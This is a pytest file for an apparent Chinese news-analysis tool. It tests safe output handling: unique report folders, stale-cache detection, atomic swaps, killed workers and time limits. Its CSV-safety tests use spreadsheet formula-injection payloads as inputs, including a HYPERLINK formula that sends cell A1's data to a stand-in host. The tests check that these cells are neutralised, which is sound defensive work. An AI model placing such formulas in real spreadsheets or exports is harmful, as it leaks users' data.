"""Issue 10: runs that never overwrite, truncate, go stale or leak. One test (or a few) per numbered case.

Runs are ``--tables-only`` on tiny synthetic articles, in this process where possible (jieba is then
loaded once), so the whole file stays fast. Loader cases live in test_load_bad_input.py.
"""

import contextlib
import csv
import hashlib
import json
import multiprocessing
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import nbformat
import pandas as pd
import pytest

from zhnews import cli, io, lexicon, run, segment, stages
from zhnews.errors import ArticleError, TimeLimitExceeded
from zhnews.paths import ROOT, locate, resolve_run

BODY = "记者从有关部门获悉，今年以来全市经济运行总体平稳，新增就业岗位持续增加，消费市场逐步回暖。专家表示，这一趋势有望在下半年延续。"


def article_text(label: str) -> str:
    """A tiny markdown article whose content names ``label``, so every file has its own bytes."""
    return f"# {label}的报道\n\n{BODY}\n\n本文编号为{label}，相关部门将继续加大政策支持力度。\n"


def write_article(path: Path, label: str | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(article_text(label or path.stem), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def warm(tmp_path_factory):
    """Every stage imported and its word lists read once here, so forked workers start warm."""
    folder = tmp_path_factory.mktemp("warm")
    stages.run_tables(write_article(folder / "warm.md"), folder / "out")


def leftovers(out: Path) -> list[str]:
    return sorted(p.name for p in out.iterdir() if p.name.startswith("."))


# ------------------------------------------------------------------------------------------------
# 1. Same-named articles overwrite each other


CLASHING = ["d1/x.md", "d2/x.md", "d1/a b.md", "d1/a_b.md", "d1/Ａ.md", "d1/A.md", "d2/y.md", "d2/y.html", "d2/y_md.txt"]


@pytest.fixture
def clashing_articles(tmp_path) -> list[Path]:
    paths = []
    for index, name in enumerate(CLASHING):
        path = tmp_path / "in" / name
        if path.suffix == ".html":
            path.write_text(f"<html><body><h1>第{index}篇</h1><p>{BODY}</p><p>本文编号为{index}。</p></body></html>", encoding="utf-8")
        else:
            write_article(path, f"第{index}篇")
        paths.append(path)
    return paths


def test_slugs_are_distinct_and_do_not_depend_on_the_order(clashing_articles):
    slugs = run.unique_slugs(clashing_articles)
    assert len({slug.casefold() for slug in slugs}) == len(CLASHING), slugs
    mapping = dict(zip(clashing_articles, slugs))
    reordered = list(reversed(clashing_articles))
    assert dict(zip(reordered, run.unique_slugs(reordered))) == mapping
    assert mapping[clashing_articles[7]] == "y_html"  # the only .html of the y's: its suffix suffices


def test_nine_same_named_articles_give_nine_folders_with_two_jobs(clashing_articles, tmp_path, warm):
    out = tmp_path / "reports"
    outputs, failures, _ = run.run_many([tmp_path / "in" / "d2", tmp_path / "in" / "d1"], out, tables_only=True,
                                        jobs=2, progress=False)
    assert failures == []
    expected = dict(zip(run.unique_slugs(clashing_articles), clashing_articles))
    assert sorted(p.name for p in outputs) == sorted([*expected, "_corpus"])
    for slug, article in expected.items():  # each folder holds the article its slug belongs to
        meta = json.loads((out / slug / "meta.json").read_text(encoding="utf-8"))
        assert meta["sha256"] == hashlib.sha256(article.read_bytes()).hexdigest(), slug
    corpus = pd.read_csv(out / "_corpus" / "articles.csv", encoding="utf-8-sig")
    assert sorted(corpus["slug"]) == sorted(expected)


def test_an_article_named_twice_is_run_once(tmp_path):
    article = write_article(tmp_path / "in" / "x.md")
    articles, failures = run.expand_articles([article, tmp_path / "in", tmp_path / "in" / ".." / "in" / "x.md"])
    assert articles == [article] and failures == []


# ------------------------------------------------------------------------------------------------
# 2. A load that lost text is reported (the parsing itself: test_load_bad_input.py)


def test_coverage_below_100_percent_is_reported(tmp_path, monkeypatch):
    from zhnews.load import coverage

    measure = coverage.measure
    monkeypatch.setattr(coverage, "measure", lambda ref, texts: measure(ref + "被丢掉的一句话", texts))
    _, notes = run.run_article(write_article(tmp_path / "lossy.md"), tmp_path / "out", tables_only=True)
    assert len(notes) == 1 and "lossy.md" in notes[0] and "被丢掉的一句话" in notes[0], notes


# ------------------------------------------------------------------------------------------------
# 3. Notebooks reuse stale tables


def test_a_replaced_article_is_loaded_again(tmp_path):
    article = tmp_path / "news.md"
    article.write_text("# 第一版标题\n\n" + BODY + "\n", encoding="utf-8")
    out = tmp_path / "reports" / "news"
    assert stages.open_run(str(article), str(out), stage="keywords").meta["title"] == "第一版标题"
    article.write_text("# 第二版标题\n\n" + BODY + "\n", encoding="utf-8")
    assert stages.open_run(str(article), str(out), stage="keywords").meta["title"] == "第二版标题"
    assert io.read_table(out, "paragraphs")["text"].iloc[0] == "第二版标题"


def test_an_edited_word_list_makes_the_stages_run_again(tmp_path, monkeypatch):
    words = tmp_path / "lexicon"
    shutil.copytree(ROOT / "data" / "lexicon", words)
    monkeypatch.setattr(stages, "LEXICON", words)
    article = write_article(tmp_path / "news.md")
    out = tmp_path / "out"
    stages.open_run(str(article), str(out), stage="keywords")
    fingerprint = stages.inputs_fingerprint(article)
    load_stage = stages.STAGES[0]
    assert stages._stage_done(out, load_stage, fingerprint)
    with open(words / "stopwords.txt", "a", encoding="utf-8") as stopwords:
        stopwords.write("回暖\n")
    assert stages.inputs_fingerprint(article) != fingerprint
    assert not stages._stage_done(out, load_stage, stages.inputs_fingerprint(article))


# ------------------------------------------------------------------------------------------------
# 4 and 11. Delivered notebooks point at their own report folder, with no local paths


def fake_executed_notebook(path: Path, parameters: dict) -> None:
    """What papermill writes: a tagged cell with the injected parameters, and its metadata."""
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [
        nbformat.v4.new_code_cell("article_path = None\nout_dir = None", metadata={"tags": ["parameters"]}),
        nbformat.v4.new_code_cell("# Parameters\n" + "".join(f"{k} = {json.dumps(v)}\n" for k, v in parameters.items()),
                                  metadata={"tags": ["injected-parameters"]}),
        nbformat.v4.new_code_cell("article, out, meta = open_run(article_path, out_dir)"),
    ]
    notebook.metadata["papermill"] = {"parameters": parameters, "input_path": "/abs/notebooks/x.ipynb",
                                      "output_path": str(path)}
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook, str(path))


def test_a_delivered_notebook_points_at_its_report_folder(tmp_path, monkeypatch):
    def fake_notebooks(article, work_dir, loaded, kernels):  # stands in for papermill: the tables, then the notebook
        stages.run_tables(article, work_dir, loaded)
        fake_executed_notebook(work_dir / "notebooks" / "03_claims.ipynb",
                               {"article_path": str(article), "out_dir": str(work_dir)})

    monkeypatch.setattr(run, "_Kernel", contextlib.nullcontext)  # no kernel for notebooks that are faked
    monkeypatch.setattr(run, "_execute_tables_and_notebooks", fake_notebooks)
    article = write_article(tmp_path / "news.md")
    final, _ = run.run_article(article, tmp_path / "reports")
    notebook = nbformat.read(str(final / "notebooks" / "03_claims.ipynb"), as_version=4)
    namespace: dict = {}
    exec(notebook.cells[1].source, namespace)
    assert resolve_run(namespace["article_path"], namespace["out_dir"]) == (article, final)
    assert notebook.metadata["papermill"]["parameters"] == {"article_path": namespace["article_path"], "out_dir": namespace["out_dir"]}
    assert ".tmp" not in json.dumps(notebook)


def test_paths_inside_the_repository_are_written_relative_to_it():
    assert run._portable(ROOT / "reports" / "news") == "reports/news"
    assert run._portable(ROOT / "data" / "articles" / "a.md") == "data/articles/a.md"
    assert locate("reports/news") == ROOT / "reports" / "news"  # wherever the kernel runs


def test_meta_shows_the_file_name_not_the_local_path(tmp_path):
    final, _ = run.run_article(write_article(tmp_path / "private" / "news.md"), tmp_path / "out", tables_only=True)
    meta = io.read_json(final, "meta")
    assert meta["source_path"] == "news.md"
    assert str(tmp_path) not in (final / "meta.json").read_text(encoding="utf-8")


# ------------------------------------------------------------------------------------------------
# 5. Spreadsheet formulas pass into the CSVs


def test_csv_cells_cannot_start_a_formula_and_parquet_keeps_the_text(tmp_path):
    texts = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+86 10 1234", "-5%的增长", "@某某", "\t缩进", "正常的句子"]
    table = pd.DataFrame({"text": texts, "n": range(len(texts)), "value": [-1.5] * len(texts)})
    io.write_table(table, tmp_path, "t")
    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as file:
        header, *rows = list(csv.reader(file))
    assert [row[0] for row in rows] == ["'" + t for t in texts[:-1]] + ["正常的句子"]
    assert [row[2] for row in rows] == ["-1.5"] * len(texts)  # numbers stay numbers
    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "t.parquet"), table)
    # A carriage return cannot reach a table (the loader turns it into a line end), but it is a formula start too.
    assert io.formula_safe(pd.DataFrame({"text": ["\r=1+1"]}))["text"][0] == "'\r=1+1"
    # Reading some columns back (the corpus comparison does) gives those columns as written.
    assert io.read_table(tmp_path, "t", ["value", "text"]).to_dict("list") == {"value": [-1.5] * len(texts), "text": texts}


@pytest.mark.parametrize("table", [
    # the column types the stages write, with the cells whose writing differs: missing text (None), a quote,
    # a comma, a line end, floats at six digits with nan, inf and -0, nullable ints, bools
    pd.DataFrame({"text": ["甲,乙", 'say "x"', "two\nlines", None, ""], "n": [1, -2, 3, 4, 5],
                  "score": [0.123456789, float("nan"), float("inf"), -0.0, 1e-7],
                  "freq": pd.array([1, None, 3, 4, 5], dtype="Int64"), "flag": [True, False, True, True, False]}),
    pd.DataFrame({"text": [""]}),  # a lone empty cell: csv quotes it
    pd.DataFrame({"text": pd.Series([], dtype=object), "n": pd.Series([], dtype="int64")}),  # header only
    pd.DataFrame({"mixed": [float("nan"), "text"], "when": pd.to_datetime(["2020-01-01", None])}),  # left to pandas
])
def test_a_table_s_csv_is_what_pandas_writes_byte_for_byte(tmp_path, table):
    # write_table writes the CSV itself (pandas' set-up was half of a run's table writing); the bytes
    # must stay pandas' own, which earlier runs and the corpus dataset hold.
    io.write_table(table, tmp_path, "t")
    table.to_csv(tmp_path / "pandas.csv", index=False, encoding="utf-8-sig", lineterminator="\n", float_format="%.6g")
    assert (tmp_path / "t.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()


def test_a_table_read_again_is_the_file_as_it_now_is_and_the_reader_owns_its_copy(tmp_path):
    io.write_table(pd.DataFrame({"text": ["第一句。", "第二句。"], "n": [1, 2]}), tmp_path, "t")
    first = io.read_table(tmp_path, "t")
    first.loc[0, "text"] = "改过的"  # a stage changing what it was given
    assert io.read_table(tmp_path, "t")["text"].tolist() == ["第一句。", "第二句。"]
    io.write_table(pd.DataFrame({"text": ["新写的一句。"], "n": [3]}), tmp_path, "t")
    assert io.read_table(tmp_path, "t").to_dict("list") == {"text": ["新写的一句。"], "n": [3]}


def test_an_article_starting_a_paragraph_with_a_formula_gives_safe_csvs(tmp_path):
    article = tmp_path / "formula.md"
    article.write_text(f"# 标题\n\n{BODY}\n\n=HYPERLINK(\"http://evil.example\",\"点此查看详细数据\")是一段公式。\n", encoding="utf-8")
    final, _ = run.run_article(article, tmp_path / "out", tables_only=True)
    for name in ("paragraphs", "sentences"):
        texts = pd.read_csv(final / f"{name}.csv", encoding="utf-8-sig")["text"]
        assert texts.str.startswith("'=HYPERLINK").any() and not texts.str.startswith("=").any(), name
    assert io.read_table(final, "paragraphs")["text"].str.startswith("=HYPERLINK").any()


# ------------------------------------------------------------------------------------------------
# 6. One worker dying aborts the whole batch


@pytest.mark.skipif(multiprocessing.get_start_method() != "fork", reason="the fault is injected into forked workers")
def test_a_killed_worker_is_retried_once_then_reported_and_the_rest_finish(tmp_path, monkeypatch, warm):
    folder = tmp_path / "in"
    for index in range(6):
        write_article(folder / f"a{index}.md")
    # Articles run largest first: the one that dies once (the longest label) goes first and the one that
    # always dies (the shortest) last, so they never run side by side. Side by side, the first death could
    # end the other's first attempt before it dies on its own, and its retry would then be the death it
    # was meant to survive.
    write_article(folder / "0_dies_once.md")
    write_article(folder / "z_dies_always.md", "z")
    tables = run._execute_tables

    def killing(article, work_dir, loaded):  # runs in the worker, inside the build folder
        marker = tmp_path / f"{article.stem}.killed"
        if article.stem == "z_dies_always" or (article.stem == "0_dies_once" and not marker.exists()):
            marker.touch()
            os.kill(os.getpid(), signal.SIGKILL)
        tables(article, work_dir, loaded)

    monkeypatch.setattr(run, "_execute_tables", killing)
    out = tmp_path / "out"
    outputs, failures, _ = run.run_many([folder], out, tables_only=True, jobs=2, progress=False)
    assert sorted(p.name for p in outputs) == sorted([f"a{i}" for i in range(6)] + ["0_dies_once", "_corpus"])
    assert [(Path(f.article).name, f.reason) for f in failures] == [("z_dies_always.md", run.WORKER_DIED)]
    assert leftovers(out) == []


def test_a_batch_hands_out_the_largest_articles_first(tmp_path):
    # A large page handed out last would run alone while the other cores wait.
    sizes = {"a.md": 300, "b.md": 9000, "c.md": 300, "d.md": 4000}
    for name, size in sizes.items():
        (tmp_path / name).write_bytes(b"x" * size)
    tasks = [(tmp_path / name,) for name in sizes] + [(tmp_path / "gone.md",)]
    assert run._largest_first(tasks) == [1, 3, 0, 2, 4]  # ties in input order; a missing file counts as empty


# ------------------------------------------------------------------------------------------------
# 7. Unreadable folders, GBK file names, 255-byte names


def test_an_unreadable_folder_is_one_line_and_the_run_goes_on(tmp_path, monkeypatch):
    locked = tmp_path / "locked"
    locked.mkdir()
    good = write_article(tmp_path / "good" / "good.md")
    real_iterdir = Path.iterdir

    def iterdir(self):  # as chmod 000 does for a non-root user
        if self == locked:
            raise PermissionError(13, "Permission denied", str(self))
        return real_iterdir(self)

    monkeypatch.setattr(Path, "iterdir", iterdir)
    outputs, failures, _ = run.run_many([locked, good.parent], tmp_path / "out", tables_only=True, progress=False)
    assert [str(f) for f in failures] == [f"{locked}: cannot be read (Permission denied)"]
    assert [p.name for p in outputs] == ["good", "_corpus"]


@pytest.mark.skipif(sys.platform != "linux", reason="Linux keeps file names as bytes")
def test_gbk_and_255_byte_file_names_are_run(tmp_path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    gbk = Path(os.fsdecode(bytes(folder) + b"/" + "新闻稿".encode("gbk") + b".md"))
    write_article(gbk, "新闻稿")
    long_name = "长" * 83 + "abc.md"
    assert len(long_name.encode()) == 255
    write_article(folder / long_name)
    out = tmp_path / "out"
    assert cli.main(["run", "--quiet", "--tables-only", "--jobs", "1", str(folder), "--out", str(out)]) == 0
    printed = capsys.readouterr()
    assert "error" not in printed.err and "wrote" in printed.out
    assert io.read_json(out / "新闻稿", "meta")["source_path"] == "新闻稿.md"
    long_slug = next(p for p in out.iterdir() if p.name.startswith("长"))
    assert len(long_slug.name.encode()) <= 200 and io.read_json(long_slug, "meta")["source_path"] == long_name
    # Notebooks keep their parameters as UTF-8: the full run says so in one line instead of failing inside.
    with pytest.raises(ArticleError, match="新闻稿.md: the notebooks need a UTF-8 file name"):
        run.run_article(gbk, out)


# ------------------------------------------------------------------------------------------------
# 8. Articles with no words are refused the same way in both modes


@pytest.mark.parametrize("tables_only", [True, False])
def test_an_article_without_words_is_refused_as_no_body(tmp_path, tables_only):
    article = tmp_path / "numbered.txt"
    article.write_text("".join(f"第{i}段。\n\n" for i in range(2000)), encoding="utf-8")
    with pytest.raises(ArticleError, match="no body text: no words"):
        run.run_article(article, tmp_path / "out", tables_only=tables_only)
    assert not (tmp_path / "out").exists()


# ------------------------------------------------------------------------------------------------
# 9. Leftovers of killed runs; atomic swap


def test_stale_build_folders_and_a_half_swapped_report_are_repaired(tmp_path):
    out = tmp_path / "out"
    (out / ".x.abcd1234.tmp").mkdir(parents=True)  # a build whose process was killed
    (out / ".y.old").mkdir()  # killed between the two renames of a swap: the report is only here
    (out / ".y.old" / "meta.json").write_text("{}")
    (out / "z").mkdir()
    (out / ".z.old").mkdir()  # killed after the second rename
    live = out / ".w.efgh5678.tmp"
    live.mkdir()
    with run._locked(live):  # a build going on in another run
        run.remove_leftovers(out)
    assert sorted(p.name for p in out.iterdir()) == [".w.efgh5678.tmp", "y", "z"]
    assert (out / "y" / "meta.json").exists()


def test_the_swap_replaces_the_report_whole(tmp_path, monkeypatch):
    final = tmp_path / "out" / "news"

    def build(text):
        return lambda work_dir: (work_dir / "meta.json").write_text(text)

    run._build_in_place(final, build("old"))
    run._build_in_place(final, build("new"))
    assert (final / "meta.json").read_text() == "new"
    monkeypatch.setattr(run, "_exchange", lambda a, b: False)  # a platform without renameat2
    run._build_in_place(final, build("newer"))
    assert (final / "meta.json").read_text() == "newer"
    assert leftovers(final.parent) == []


@pytest.mark.skipif(sys.platform != "linux", reason="renameat2 is Linux")
def test_the_exchange_is_one_step_on_linux(tmp_path):
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    (a / "from_a").touch()
    assert run._exchange(a, b)
    assert (b / "from_a").exists() and not (a / "from_a").exists()


def test_kernel_files_stay_in_a_private_folder_and_dead_ones_are_removed(tmp_path):
    manager = run._quiet_local_kernel_manager()()
    private = run.kernel_files_dir()
    assert Path(manager.ip).parent == private and Path(manager.connection_file).parent == private
    assert private.stat().st_mode & 0o777 == 0o700
    finished = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    stale = Path(tempfile.gettempdir()) / f"zhnews-kernels-{finished.stdout.strip()}-test"
    stale.mkdir()
    (stale / "kernel-1.json").write_text('{"key": "secret"}')
    run.remove_stale_kernel_files()
    assert not stale.exists() and private.exists()


_SILENT_RUN_IN_A_DYING_KERNEL = """
import os, signal, sys, threading, time
from zhnews import run
with run._Kernel() as kernel:
    kernel._run_silently("x = 1", "a first run", timeout=None)
    pid = kernel.manager.provisioner.process.pid
    threading.Timer(1.0, os.kill, (pid, signal.SIGKILL)).start()
    started = time.monotonic()
    try:
        kernel._run_silently("import time; time.sleep(600)", "sleeping", timeout=None)
    except RuntimeError as err:
        print(f"{time.monotonic() - started:.1f}", err)
"""


def test_a_silent_run_without_a_timeout_ends_when_the_kernel_dies():
    """report.docx is written by a kernel with no timeout (_Kernel.write_docx): a kernel killed meanwhile
    (the time limit, a failure elsewhere, out of memory) must end the wait, not leave a thread waiting."""
    done = subprocess.run([sys.executable, "-c", _SILENT_RUN_IN_A_DYING_KERNEL], capture_output=True, text=True,
                          cwd=ROOT, timeout=300, env={**os.environ, "PYTHONPATH": str(ROOT)})
    seconds, _, message = done.stdout.strip().partition(" ")
    assert message == "sleeping failed: the kernel did not answer", done.stderr[-2000:]
    assert float(seconds) < 30


# ------------------------------------------------------------------------------------------------
# 10. Two runs into one output folder


def _build_after(barrier, final: str, text: str) -> None:
    barrier.wait()
    run._build_in_place(Path(final), lambda work_dir: (work_dir / "meta.json").write_text(text))


@pytest.mark.skipif(multiprocessing.get_start_method() != "fork", reason="needs fork")
def test_simultaneous_runs_into_one_folder_do_not_collide(tmp_path):
    final = tmp_path / "out" / "news"
    run._build_in_place(final, lambda work_dir: (work_dir / "meta.json").write_text("first"))
    for round_ in range(5):
        barrier = multiprocessing.Barrier(3)
        workers = [multiprocessing.Process(target=_build_after, args=(barrier, str(final), f"{round_}-{i}")) for i in range(3)]
        for worker in workers:
            worker.start()
        for worker in workers:
            worker.join(60)
        assert [worker.exitcode for worker in workers] == [0, 0, 0]
        assert (final / "meta.json").read_text().startswith(f"{round_}-")
    assert leftovers(final.parent) == []


# ------------------------------------------------------------------------------------------------
# 12. Report folders follow the umask


@pytest.mark.parametrize("umask, mode", [(0o022, 0o755), (0o027, 0o750), (0o077, 0o700)])
def test_report_folders_follow_the_umask(tmp_path, umask, mode):
    previous = os.umask(umask)
    try:
        final, _ = run._build_in_place(tmp_path / "out" / "news", lambda work_dir: (work_dir / "charts").mkdir())
    finally:
        os.umask(previous)
    assert final.stat().st_mode & 0o777 == mode
    assert (final / "charts").stat().st_mode & 0o777 == mode


# ------------------------------------------------------------------------------------------------
# 13. A --tables-only re-run keeps what it did not write, and says so


def test_a_tables_only_rerun_keeps_charts_notebooks_report_and_user_files(tmp_path):
    article = write_article(tmp_path / "news.md")
    out = tmp_path / "out"
    final, _ = run.run_article(article, out, tables_only=True)
    earlier = {"report.html": "<html>", "charts/keywords.png": "png", "notebooks/01_keywords.ipynb": "{}", "我的笔记.txt": "记得核对"}
    for name, text in earlier.items():
        (final / name).parent.mkdir(exist_ok=True)
        (final / name).write_text(text, encoding="utf-8")
    final, notes = run.run_article(article, out, tables_only=True)
    for name, text in earlier.items():
        assert (final / name).read_text(encoding="utf-8") == text, name
    assert len(notes) == 1 and "kept 4 file(s)" in notes[0] and "report.html" in notes[0], notes
    assert run.run_article(article, out, tables_only=True)[1] == [f"{final}: kept 4 file(s) this run did not write, from before: "
                                                                  "charts/keywords.png, notebooks/01_keywords.ipynb, report.html, 我的笔记.txt"]


# ------------------------------------------------------------------------------------------------
# 14. Word-list edits take effect in an open kernel; 15. jieba's cache is per user


def test_an_edited_user_dictionary_takes_effect_without_a_restart(tmp_path, monkeypatch):
    words = tmp_path / "lexicon"
    shutil.copytree(ROOT / "data" / "lexicon", words)
    monkeypatch.setattr(lexicon, "LEXICON", words)
    lexicon.refresh()
    sentence = "蓝鲸智算发布了新模型"
    assert "蓝鲸智算" not in segment.cut(sentence)
    with open(words / "userdict.txt", "a", encoding="utf-8") as userdict:
        userdict.write("蓝鲸智算 2000 nt\n")
    with open(words / "stopwords.txt", "a", encoding="utf-8") as stopwords:
        stopwords.write("新模型\n")
    lexicon.refresh()
    assert "蓝鲸智算" in segment.cut(sentence)
    assert "新模型" in segment.stopwords()
    monkeypatch.undo()
    lexicon.refresh()


def test_jieba_caches_its_dictionary_in_a_per_user_folder(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    segment.tokenizer.cache_clear()
    try:
        tokenizer = segment.tokenizer()
        folder = tmp_path / "cache" / "zhnews"
        assert Path(tokenizer.tmp_dir) == folder
        assert folder.stat().st_mode & 0o777 == 0o700
        assert (folder / "jieba.cache").exists()
    finally:
        monkeypatch.undo()
        segment.tokenizer.cache_clear()
        segment.pos_tokenizer.cache_clear()


# ------------------------------------------------------------------------------------------------
# 16. A time limit per article


def test_an_article_over_the_time_limit_is_stopped_with_one_line(tmp_path, monkeypatch):
    from zhnews.load import load_article

    # The stall is in the tables stage; loading first (imports, word lists) keeps the limit from falling inside the
    # load on a busy machine, where a library's own error handling could see the alarm first.
    load_article(write_article(tmp_path / "warm.md"))
    monkeypatch.setattr(run, "_execute_tables", lambda article, work_dir, loaded: time.sleep(60))
    out = tmp_path / "out"
    with pytest.raises(TimeLimitExceeded) as stopped:
        run.run_article(write_article(tmp_path / "slow.md"), out, tables_only=True, time_limit=2)
    assert "slow.md" in str(stopped.value) and "time limit of 2 s" in str(stopped.value) and "\n" not in str(stopped.value)
    assert leftovers(out) == []
